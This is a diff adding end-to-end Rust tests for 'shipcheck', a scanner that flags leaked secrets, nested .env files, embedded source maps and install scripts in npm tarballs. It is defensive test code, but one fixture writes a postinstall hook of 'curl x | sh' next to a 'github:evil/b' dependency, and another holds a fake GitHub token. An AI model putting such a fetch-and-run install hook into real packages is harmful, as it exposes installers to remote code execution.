@@ -1,0 +1,409 @@
+//! `shipcheck check` and `shipcheck rules` end to end: the real binary on package tarballs
+//! built here from source text (no binary fixtures are committed).
+
+use std::io::Write as _;
+use std::path::{Path, PathBuf};
+
+use assert_cmd::Command;
+use serde_json::Value;
+
+/// A gzip'd tar of `files` written to `dir/name`.
+fn tgz_bytes(files: &[(&str, &[u8])]) -> Vec<u8> {
+    let gz = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast());
+    let mut t = tar::Builder::new(gz);
+    for (path, bytes) in files {
+        let mut h = tar::Header::new_gnu();
+        h.set_size(bytes.len() as u64);
+        h.set_mode(0o644);
+        h.set_mtime(0);
+        h.set_cksum();
+        t.append_data(&mut h, path, *bytes).expect("tar entry");
+    }
+    let mut gz = t.into_inner().expect("tar");
+    gz.flush().expect("flush");
+    gz.finish().expect("gzip")
+}
+
+fn write(dir: &Path, name: &str, bytes: &[u8]) -> PathBuf {
+    let p = dir.join(name);
+    std::fs::write(&p, bytes).expect("write fixture");
+    p
+}
+
+/// A fake but well-formed GitHub token, assembled so this file never holds one.
+fn token() -> String {
+    format!("{}{}", "ghp_", "Zq8vT2mK9pL4xR7cW1nB6yH3jF5dS0aQeUiO")
+}
+
+fn map_with_secret() -> Vec<u8> {
+    let mut lines: Vec<String> = (1..42).map(|i| format!("// line {i}")).collect();
+    lines.push(format!("export const token = \"{}\";", token()));
+    let source = lines.join("\n");
+    serde_json::to_vec(&serde_json::json!({
+        "version": 3,
+        "sources": ["webpack://cli/./src/auth/token.ts", "webpack://cli/./src/main.ts", "webpack://cli/../node_modules/dep/index.js"],
+        "sourcesContent": [source, "main()\n", "module.exports = 1\n"],
+        "mappings": "AAAA",
+    }))
+    .expect("map JSON")
+}
+
+const CLEAN_PKG: &[u8] = br#"{"name":"clean","version":"1.0.0","files":["index.js"]}"#;
+
+fn leaky(dir: &Path) -> PathBuf {
+    let inner = tgz_bytes(&[
+        ("package/package.json", CLEAN_PKG),
+        ("package/.env", b"API=1\n"),
+    ]);
+    let pkg = br#"{"name":"leaky","version":"2.0.0","scripts":{"postinstall":"node setup.js"}}"#;
+    write(
+        dir,
+        "leaky-2.0.0.tgz",
+        &tgz_bytes(&[
+            ("package/package.json", pkg.as_slice()),
+            (
+                "package/dist/cli.js",
+                b"main();\n//# sourceMappingURL=cli.js.map\n",
+            ),
+            ("package/dist/cli.js.map", &map_with_secret()),
+            ("package/vendor/inner.tgz", &inner),
+        ]),
+    )
+}
+
+fn shipcheck(dir: &Path) -> Command {
+    let mut c = Command::cargo_bin("shipcheck").expect("binary builds");
+    c.current_dir(dir).env("NO_COLOR", "1");
+    c
+}
+
+fn json_of(dir: &Path, args: &[&str]) -> (Value, i32) {
+    let out = shipcheck(dir)
+        .args(["check", "--format", "json"])
+        .args(args)
+        .output()
+        .expect("runs");
+    let v = serde_json::from_slice(&out.stdout)
+        .unwrap_or_else(|e| panic!("JSON: {e}\n{}", String::from_utf8_lossy(&out.stderr)));
+    (v, out.status.code().unwrap_or(-1))
+}
+
+fn find<'a>(v: &'a Value, rule: &str) -> Vec<&'a Value> {
+    v["findings"]
+        .as_array()
+        .expect("findings")
+        .iter()
+        .filter(|f| f["rule"] == rule)
+        .collect()
+}
+
+/// Replaces what varies between runs (temp paths, digests) before snapshotting.
+fn redact(mut v: Value) -> Value {
+    for side in ["artifact", "baseline"] {
+        if let Some(a) = v.get_mut(side).and_then(Value::as_object_mut) {
+            for k in ["path", "sha256", "sha512", "integrity", "packed_size"] {
+                if a.contains_key(k) {
+                    a.insert(k.into(), "[redacted]".into());
+                }
+            }
+        }
+    }
+    if let Some(p) = v.get_mut("policy").and_then(Value::as_object_mut) {
+        p.insert(
+            "path".into(),
+            p["path"].as_str().map(|_| "[redacted]").into(),
+        );
+    }
+    v
+}
+
+#[test]
+fn a_clean_package_passes() {
+    let dir = tempfile::tempdir().expect("tempdir");
+    let f = write(
+        dir.path(),
+        "clean-1.0.0.tgz",
+        &tgz_bytes(&[
+            ("package/package.json", CLEAN_PKG),
+            ("package/index.js", b"module.exports = 1;\n"),
+        ]),
+    );
+    let (v, code) = json_of(dir.path(), &[f.to_str().expect("utf-8")]);
+    assert_eq!(code, 0, "clean package exits 0: {v}");
+    assert_eq!(v["summary"]["failed"], false);
+    assert_eq!(v["findings"].as_array().map(Vec::len), Some(0), "{v}");
+    assert_eq!(v["artifact"]["name"], "clean");
+    assert!(
+        v["artifact"]["integrity"]
+            .as_str()
+            .is_some_and(|s| s.starts_with("sha512-"))
+    );
+}
+
+#[test]
+fn the_incident_package_fails_with_precise_findings() {
+    let dir = tempfile::tempdir().expect("tempdir");
+    let f = leaky(dir.path());
+    let (v, code) = json_of(dir.path(), &[f.to_str().expect("utf-8")]);
+    assert_eq!(code, 1, "critical findings exit 1");
+    let maps = find(&v, "sourcemap-embedded-sources");
+    assert_eq!(maps.len(), 1);
+    let e = &maps[0]["evidence"];
+    assert_eq!(
+        (e["sources"].as_u64(), e["embedded_sources"].as_u64()),
+        (Some(3), Some(3))
+    );
+    assert_eq!(e["first_party"]["files"], 2);
+    assert_eq!(e["third_party"]["files"], 1);
+    assert_eq!(e["embedded_lines"], 42 + 1 + 1);
+    let secret = find(&v, "secret-github-pat");
+    assert_eq!(secret.len(), 1, "{v}");
+    assert_eq!(secret[0]["path"], "dist/cli.js.map");
+    assert_eq!(secret[0]["inner"], "src/auth/token.ts");
+    assert_eq!(secret[0]["line"], 42);
+    let env = find(&v, "sensitive-file");
+    assert!(
+        env.iter()
+            .any(|f| f["path"] == "vendor/inner.tgz" && f["inner"] == ".env"),
+        "nested .env found: {env:?}"
+    );
+    assert_eq!(find(&v, "nested-archive").len(), 1);
+    assert_eq!(find(&v, "install-script")[0]["severity"], "high");
+    let refs = find(&v, "sourcemap-reference");
+    assert_eq!(refs[0]["severity"], "info", "the referenced map ships");
+    assert!(v["summary"]["critical"].as_u64() >= Some(2));
+}
+
+#[test]
+fn secret_values_never_appear_in_any_format() {
+    let dir = tempfile::tempdir().expect("tempdir");
+    let f = leaky(dir.path());
+    for format in ["text", "json", "sarif", "markdown"] {
+        let out = shipcheck(dir.path())
+            .args(["check", "--format", format])
+            .arg(&f)
+            .output()
+            .expect("runs");
+        let text = String::from_utf8_lossy(&out.stdout);
+        assert!(
+            text.contains("ghp_"),
+            "{format}: the finding is there with its prefix"
+        );
+        assert!(
+            !text.contains(&token()[..14]),
+            "{format} leaks the token:\n{text}"
+        );
+        assert!(
+            !text.contains('\u{1b}'),
+            "{format}: no colour when not a terminal"
+        );
+    }
+}
+
+#[test]
+fn outputs_match_their_snapshots() {
+    let dir = tempfile::tempdir().expect("tempdir");
+    let f = leaky(dir.path());
+    let (v, _) = json_of(dir.path(), &[f.to_str().expect("utf-8")]);
+    insta::assert_json_snapshot!("check_json", redact(v));
+    let md = shipcheck(dir.path())
+        .args(["check", "--format", "markdown"])
+        .arg(&f)
+        .output()
+        .expect("runs");
+    insta::assert_snapshot!("check_markdown", String::from_utf8_lossy(&md.stdout));
+    let sarif = shipcheck(dir.path())
+        .args(["check", "--format", "sarif"])
+        .arg(&f)
+        .output()
+        .expect("runs");
+    let mut s: Value = serde_json::from_slice(&sarif.stdout).expect("SARIF is JSON");
+    s["runs"][0]["tool"]["driver"]["rules"] =
+        Value::from("[catalogue: see `shipcheck rules --json`]");
+    insta::assert_json_snapshot!("check_sarif", s);
+}
+
+#[test]
+fn sarif_validates_against_the_official_schema() {
+    let dir = tempfile::tempdir().expect("tempdir");
+    let f = leaky(dir.path());
+    write(
+        dir.path(),
+        "shipcheck.toml",
+        b"[[allow]]\npath = \"vendor/**\"\nreason = \"vendored on purpose\"\n",
+    );
+    let out = shipcheck(dir.path())
+        .args(["check", "--format", "sarif"])
+        .arg(&f)
+        .output()
+        .expect("runs");
+    let sarif: Value = serde_json::from_slice(&out.stdout).expect("SARIF is JSON");
+    let schema: Value =
+        serde_json::from_str(include_str!("data/sarif-schema-2.1.0.json")).expect("schema");
+    let validator = jsonschema::validator_for(&schema).expect("schema compiles");
+    let errors: Vec<String> = validator
+        .iter_errors(&sarif)
+        .map(|e| format!("{} at {}", e, e.instance_path))
+        .collect();
+    assert!(errors.is_empty(), "SARIF violates the schema: {errors:#?}");
+    assert_eq!(sarif["version"], "2.1.0");
+    let results = sarif["runs"][0]["results"].as_array().expect("results");
+    assert!(
+        results
+            .iter()
+            .any(|r| r["suppressions"][0]["justification"] == "vendored on purpose"),
+        "allowed findings are suppressed, not dropped"
+    );
+    let mut broken = sarif.clone();
+    broken["runs"][0]["results"][0]["level"] = Value::from("fatal");
+    assert!(
+        !validator.is_valid(&broken),
+        "the validator does reject invalid SARIF"
+    );
+}
+
+#[test]
+fn policy_allows_overrides_and_refuses_bad_files() {
+    let dir = tempfile::tempdir().expect("tempdir");
+    let f = leaky(dir.path());
+    let policy = write(
+        dir.path(),
+        "policy.toml",
+        b"[severity]\n\"install-script\" = \"low\"\n[[allow]]\npath = \"dist/cli.js.map\"\nreason = \"maps are public by design\"\nexpires = 2999-12-31\n",
+    );
+    let (v, code) = json_of(
+        dir.path(),
+        &[
+            f.to_str().expect("utf-8"),
+            "--policy",
+            policy.to_str().expect("utf-8"),
+        ],
+    );
+    assert_eq!(code, 1, "the nested .env still fails");
+    let m = &find(&v, "sourcemap-embedded-sources")[0];
+    assert_eq!(
+        m["allowed"]["reason"], "maps are public by design",
+        "allowed, and still shown"
+    );
+    assert_eq!(find(&v, "install-script")[0]["severity"], "low");
+    assert!(v["policy"]["sha256"].is_string());
+    let bad = write(
+        dir.path(),
+        "bad.toml",
+        b"profile = \"public\"\n\n[thresholds]\nmax_size = 3\n",
+    );
+    let out = shipcheck(dir.path())
+        .args(["check"])
+        .arg(&f)
+        .arg("--policy")
+        .arg(&bad)
+        .output()
+        .expect("runs");
+    assert_eq!(out.status.code(), Some(2), "a bad policy is an error");
+    let err = String::from_utf8_lossy(&out.stderr);
+    assert!(err.contains("bad.toml:4:"), "names file and line: {err}");
+    assert!(err.contains("unknown field"), "{err}");
+    assert!(err.contains("hint"), "{err}");
+}
+
+#[test]
+fn fail_on_and_exit_codes() {
+    let dir = tempfile::tempdir().expect("tempdir");
+    let f = write(
+        dir.path(),
+        "nofiles-1.0.0.tgz",
+        &tgz_bytes(&[(
+            "package/package.json",
+            br#"{"name":"n","version":"1.0.0"}"#.as_slice(),
+        )]),
+    );
+    shipcheck(dir.path()).arg("check").arg(&f).assert().code(0);
+    shipcheck(dir.path())
+        .arg("check")
+        .arg(&f)
+        .args(["--fail-on", "medium"])
+        .assert()
+        .code(1);
+    shipcheck(dir.path())
+        .arg("check")
+        .arg(&f)
+        .args(["--fail-on", "urgent"])
+        .assert()
+        .code(2);
+    shipcheck(dir.path())
+        .args(["check", "no-such-file.tgz"])
+        .assert()
+        .code(2);
+}
+
+#[test]
+fn a_new_install_script_against_the_baseline_is_critical() {
+    let dir = tempfile::tempdir().expect("tempdir");
+    let old = write(
+        dir.path(),
+        "a-1.0.0.tgz",
+        &tgz_bytes(&[(
+            "package/package.json",
+            br#"{"name":"a","version":"1.0.0","files":["x"]}"#.as_slice(),
+        )]),
+    );
+    let new = write(
+        dir.path(),
+        "a-1.0.1.tgz",
+        &tgz_bytes(&[
+            ("package/package.json", br#"{"name":"a","version":"1.0.1","files":["x"],"scripts":{"postinstall":"curl x | sh"},"dependencies":{"b":"github:evil/b"}}"#.as_slice()),
+        ]),
+    );
+    let (v, code) = json_of(
+        dir.path(),
+        &[
+            new.to_str().expect("utf-8"),
+            "--baseline",
+            old.to_str().expect("utf-8"),
+        ],
+    );
+    assert_eq!(code, 1);
+    assert_eq!(find(&v, "install-script")[0]["severity"], "critical");
+    assert_eq!(find(&v, "new-dependency")[0]["severity"], "high");
+    assert_eq!(v["baseline"]["version"], "1.0.0");
+    assert!(v["diff"]["totals"].is_object());
+    let md = shipcheck(dir.path())
+        .args(["check", "--format", "markdown"])
+        .arg(&new)
+        .arg("--baseline")
+        .arg(&old)
+        .output()
+        .expect("runs");
+    let md = String::from_utf8_lossy(&md.stdout);
+    assert!(md.contains("| files | 1 | 1 | +0 |"), "delta table: {md}");
+}
+
+#[test]
+fn rules_catalogue_and_docs_do_not_drift() {
+    let out = Command::cargo_bin("shipcheck")
+        .expect("binary")
+        .args(["rules", "--json"])
+        .output()
+        .expect("runs");
+    let rules: Value = serde_json::from_slice(&out.stdout).expect("JSON");
+    assert!(
+        rules.as_array().map_or(0, Vec::len) >= 55,
+        "every rule and secret format listed"
+    );
+    let md = Command::cargo_bin("shipcheck")
+        .expect("binary")
+        .args(["rules", "--format", "markdown"])
+        .output()
+        .expect("runs");
+    let generated = String::from_utf8_lossy(&md.stdout).into_owned();
+    let doc = std::fs::read_to_string(Path::new(env!("CARGO_MANIFEST_DIR")).join("docs/rules.md"))
+        .expect("docs/rules.md");
+    let start =
+        doc.find("<!-- rules:start -->\n").expect("start marker") + "<!-- rules:start -->\n".len();
+    let end = doc.find("<!-- rules:end -->").expect("end marker");
+    assert_eq!(
+        &doc[start..end],
+        generated,
+        "docs/rules.md is stale: regenerate with `shipcheck rules --format markdown`"
+    );
+}
